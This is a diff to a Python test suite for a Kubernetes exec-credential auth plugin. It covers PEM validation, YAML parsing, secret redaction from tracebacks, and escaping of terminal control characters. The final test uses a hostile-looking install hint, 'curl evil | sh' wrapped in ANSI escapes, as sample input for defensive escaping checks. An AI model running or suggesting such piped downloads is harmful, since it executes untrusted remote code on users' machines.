@@ -7,6 +7,7 @@ import json
 import os
 import sys
 import threading
+import traceback
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
@@ -148,11 +149,15 @@ def test_exec_info_has_no_cluster_without_provide_cluster_info(plugin: Plugin) -
     assert plugin.calls()[0]["info"]["spec"] == {"interactive": False}
 
 
+CERT_PEM = "-----BEGIN CERTIFICATE-----\nCERT\n-----END CERTIFICATE-----\n"
+KEY_PEM = "-----BEGIN PRIVATE KEY-----\nKEY\n-----END PRIVATE KEY-----\n"
+
+
 def test_an_exec_plugin_may_return_a_client_certificate(plugin: Plugin) -> None:
-    plugin.returns({"clientCertificateData": "CERT PEM", "clientKeyData": "KEY PEM"})
+    plugin.returns({"clientCertificateData": CERT_PEM, "clientKeyData": KEY_PEM})
     auth = ExecAuth(plugin.spec(), environ=ENVIRON)
 
-    assert auth.client_certificate() == (b"CERT PEM", b"KEY PEM")
+    assert auth.client_certificate() == (CERT_PEM.encode(), KEY_PEM.encode())
     assert auth.headers() == {}
     assert len(plugin.calls()) == 1
 
@@ -179,7 +184,19 @@ def test_a_failing_exec_plugin_error_shows_stderr_but_not_stdout(plugin: Plugin)
 @pytest.mark.parametrize(
     ("output", "message"),
     [
-        pytest.param(f"token={SECRET}", "did not print valid JSON", id="not-json"),
+        pytest.param(f"token={SECRET}", "did not print an ExecCredential", id="not-json"),
+        pytest.param(f'{{"token": "{SECRET}"', "did not print valid JSON or YAML", id="broken-json"),
+        pytest.param(
+            json.dumps(
+                {
+                    "kind": "ExecCredential",
+                    "apiVersion": V1,
+                    "status": {"clientCertificateData": "DER", "clientKeyData": SECRET},
+                }
+            ),
+            "status.clientCertificateData that is not PEM",
+            id="not-pem",
+        ),
         pytest.param(json.dumps({"kind": "Secret", "token": SECRET}), "did not print an ExecCredential", id="kind"),
         pytest.param(
             json.dumps({"kind": "ExecCredential", "apiVersion": V1BETA1, "status": {"token": SECRET}}),
@@ -266,3 +283,42 @@ def test_the_credential_cache_lets_the_next_caller_retry_after_a_failure() -> No
     with pytest.raises(AuthError):
         cache.get()
     assert cache.get() == "second"
+
+
+def test_an_exec_plugin_may_print_yaml_as_client_go_accepts() -> None:
+    output = f"""apiVersion: {V1}
+kind: ExecCredential
+status:
+  token: {SECRET}
+  expirationTimestamp: 2030-01-02T03:04:05Z
+"""
+    credential = parse_exec_credential(output.encode(), api_version=V1, command="plugin")
+
+    assert credential.token == SECRET
+    assert credential.expires_at == 1893553445.0
+
+
+def test_a_plugin_timeout_traceback_never_shows_the_plugins_arguments() -> None:
+    # Before: the AuthError was chained to subprocess.TimeoutExpired, whose message is the whole command line.
+    spec = ExecSpec(command=sys.executable, api_version=V1, args=("-c", "import time; time.sleep(30)", SECRET))
+
+    with pytest.raises(AuthError, match="did not finish") as caught:
+        ExecAuth(spec, environ=ENVIRON, timeout=0.2).headers()
+
+    assert SECRET not in "".join(traceback.format_exception(caught.value))
+
+
+def test_control_characters_from_the_plugin_are_escaped_as_kubectl_does(plugin: Plugin, tmp_path: Path) -> None:
+    hint = "run \x1b[2J\x1b[31mcurl evil | sh\x1b[0m\rinstall it"
+    spec = ExecSpec(command="no-such-plugin-xyz", api_version=V1, install_hint=hint)
+    with pytest.raises(AuthError) as missing:
+        ExecAuth(spec, environ={"PATH": str(tmp_path)}).headers()
+
+    plugin.prints("{}")
+    with pytest.raises(AuthError) as failed:
+        ExecAuth(plugin.spec(PLUGIN_EXIT="1", PLUGIN_STDERR="\x1b]0;title\x07oops\r"), environ=ENVIRON).headers()
+
+    assert "run ^[[2J^[[31mcurl evil | sh^[[0m\\rinstall it" in str(missing.value)
+    assert "^[]0;title" in str(failed.value)
+    assert "\x1b" not in str(missing.value) + str(failed.value)
+    assert "\r" not in str(missing.value) + str(failed.value)
